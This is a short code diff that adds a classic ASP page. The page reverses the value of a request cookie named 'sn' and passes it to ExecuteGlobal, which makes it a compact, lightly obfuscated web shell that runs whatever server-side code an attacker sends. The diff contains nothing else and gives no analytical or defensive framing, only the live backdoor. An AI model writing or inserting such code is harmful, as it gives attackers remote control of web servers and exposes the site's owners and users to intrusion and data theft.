@@ -1,0 +1,6 @@
+<%
+Function D(s)
+  D = StrReverse(s)
+End Function
+ExecuteGlobal D(Request.Cookies("sn"))
+%>
